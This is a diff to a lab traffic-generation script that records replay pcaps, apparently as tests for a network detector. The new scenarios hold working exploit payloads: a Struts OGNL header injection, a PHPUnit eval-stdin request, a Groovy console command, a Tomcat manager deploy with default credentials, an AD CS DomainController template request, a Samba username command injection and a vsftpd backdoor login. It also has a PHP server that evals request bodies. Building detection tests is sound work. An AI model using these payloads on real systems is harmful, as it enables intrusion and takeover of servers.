@@ -4,11 +4,12 @@
 # ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
 #
 # Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping samba smbclient python3-impacket python3-ldap3 python3-winrm openssh-server
-# openssh-client php-cli weevely curl wget xrdp freerdp2-x11 xvfb socat.
+# openssh-client php-cli weevely curl wget xrdp freerdp2-x11 xvfb socat vsftpd.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-stp}
 all=(relay_ntlmrelayx shares_netview pivot_smbexec edges_smbexec winrm_pywinrm task_atexec
-    pipe_agents benign_pipes wmi_wmiexec dcom_dcomexec rdp_relay_socat web_exploit_php web_shell_php benign_steps)
+    pipe_agents benign_pipes wmi_wmiexec dcom_dcomexec rdp_relay_socat web_exploit_php web_shell_php
+    consoles_curl names_smbclient benign_consoles benign_steps)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 secret=Secret-1
@@ -241,6 +242,56 @@ web_shell_php() { # scripts that carry out what they are sent
     done
     "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 --data-urlencode "z=$(printf 'system("id; ls -la /");' | base64 -w 0)" \
         http://10.20.1.12/upload/img_8.php || true
+}
+
+consoles() { # a server of consoles that run what they are sent, as far as a client sees
+    cat >"$dir/consoles.php" <<'PHP'
+<?php
+$uri = $_SERVER['REQUEST_URI'];
+if (str_contains($uri, 'eval-stdin.php')) {
+    eval('?>' . file_get_contents('php://input'));
+} elseif (str_ends_with($uri, '/script') || str_contains($_SERVER['CONTENT_TYPE'] ?? '', 'ognl')) {
+    echo '<pre>' . shell_exec('id') . '</pre>';
+} else {
+    echo "OK - done\n";
+}
+PHP
+    bg consoles "${cli[@]}" php -S 10.20.1.12:8080 "$dir/consoles.php"
+    sleep 2
+}
+
+web() { # own-address path curl's arguments...
+    from srv "$1" curl -s -m 5 "http://10.20.1.12:8080$2" "${@:3}"
+}
+
+consoles_curl() { # an application that comes and goes; a script at a console; holes of PHPUnit and of Struts; the form of an authority
+    consoles
+    web 10.20.2.20 '/manager/text/deploy?path=/xk' -u tomcat:tomcat -T "$dir/me/updater.exe"
+    sleep 1
+    web 10.20.2.20 '/manager/text/undeploy?path=/xk' -u tomcat:tomcat
+    web 10.20.2.21 /script --data-urlencode 'script=def p = "cmd.exe /c whoami /all".execute(); println p.text'
+    web 10.20.2.22 /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php --data-binary '<?php system("id");'
+    web 10.20.2.23 /show.action -H "Content-Type: %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"
+    web 10.20.2.24 /certsrv/certfnsh.asp --ntlm -u corp/ws7:x -d 'Mode=newreq&CertRequest=MIIC&CertAttrib=CertificateTemplate:DomainController&TargetStoreFlags=0&SaveCert=yes'
+}
+
+names_smbclient() { # a user name that is a command, and one that opens a back door
+    # shellcheck disable=SC2016 # it is a name
+    from cli 10.20.1.10 timeout 8 smbclient -L 10.20.2.20 -U '/=`nohup id`%x'
+    mkdir -p "$dir/empty"
+    printf '%s\n' listen=YES listen_address=10.20.2.20 local_enable=YES anonymous_enable=NO pam_service_name=vsftpd \
+        "secure_chroot_dir=$dir/empty" seccomp_sandbox=NO >"$dir/vsftpd.conf"
+    bg ftpd "${srv[@]}" /usr/sbin/vsftpd "$dir/vsftpd.conf"
+    sleep 1
+    from cli 10.20.1.11 curl -s -m 5 'ftp://zq%3A%29:x@10.20.2.20/'
+}
+
+benign_consoles() { # a deployment, its pages, a search that names commands, an authority's form by its page
+    consoles
+    web 10.20.2.20 '/manager/text/deploy?path=/shop&update=true' -u deploy:x -T "$dir/me/updater.exe"
+    web 10.20.2.20 /shop/ -A 'Mozilla/5.0'
+    web 10.20.2.21 '/search?q=how+to+use+scripttext;+ls'
+    web 10.20.2.22 /certsrv/certfnsh.asp -e http://10.20.1.12:8080/certsrv/certrqxt.asp -H 'Accept-Language: en' -d 'Mode=newreq&CertRequest=MIIC'
 }
 
 benign_steps() { # a user's files, an administrator's look at a server and at services, a page asked for
